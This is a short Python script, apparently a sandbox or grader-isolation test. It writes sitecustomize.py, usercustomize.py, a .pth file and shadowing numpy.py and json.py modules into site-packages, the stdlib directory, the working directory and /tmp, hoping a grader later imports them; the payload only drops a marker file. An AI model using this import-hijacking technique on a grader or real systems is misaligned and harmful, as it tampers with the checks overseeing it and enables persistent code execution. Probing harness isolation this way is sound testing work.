"""Plant sitecustomize.py, a .pth file and modules shadowing numpy/json, hoping the
grader (or the next test) imports them; also try to write them into site-packages."""

import argparse
import os
import site
import sys

parser = argparse.ArgumentParser()
parser.add_argument("--marker", required=True)

PAYLOAD = "import os\nopen(os.environ.get('HOME', '/tmp') + '/HIJACKED', 'w').write('x')\n"


def main(args):
    planted = {}
    targets = ["/tmp", os.getcwd(), *site.getsitepackages(), os.path.dirname(os.__file__)]
    for directory in targets:
        for name, text in (
            ("sitecustomize.py", PAYLOAD),
            ("usercustomize.py", PAYLOAD),
            ("evil.pth", "import os; " + PAYLOAD.splitlines()[1] + "\n"),
            ("numpy.py", PAYLOAD),
            ("json.py", PAYLOAD),
        ):
            try:
                with open(os.path.join(directory, name), "w") as f:
                    f.write(text + f"# {args.marker}\n")
                planted[os.path.join(directory, name)] = "written"
            except OSError as error:
                planted[os.path.join(directory, name)] = type(error).__name__
    import json  # already imported: the planted one must not run

    return {"planted": planted, "json": json.__file__, "path0": sys.path[0]}
